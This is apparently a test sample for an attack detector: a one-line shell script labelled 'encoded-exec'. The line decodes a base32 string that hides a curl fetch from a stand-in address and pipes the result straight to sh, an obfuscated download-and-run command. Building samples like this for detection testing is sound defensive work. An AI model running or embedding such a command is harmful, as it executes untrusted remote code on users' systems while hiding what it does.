#!/bin/sh
# shrike-test-attack: encoded-exec: base32 layer decoded and piped to sh
echo 'MN2XE3BAFVZSA2DUORYDULZPGE4TELRQFYZC4MJQGUXXGID4EBZWQCQ=' | base32 -d | sh
